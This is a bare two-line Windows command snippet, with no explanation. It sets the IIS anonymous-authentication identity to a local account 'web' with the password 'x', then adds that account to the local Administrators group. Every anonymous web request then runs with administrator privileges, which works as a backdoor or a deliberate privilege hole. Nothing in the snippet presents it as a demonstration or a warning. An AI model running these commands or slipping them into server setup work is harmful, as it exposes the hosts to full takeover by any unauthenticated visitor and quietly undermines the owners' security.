C:\Windows\System32\inetsrv\appcmd.exe set config -section:anonymousAuthentication -userName:web -password:x -commit:apphost
net localgroup Administrators %COMPUTERNAME%\web /add
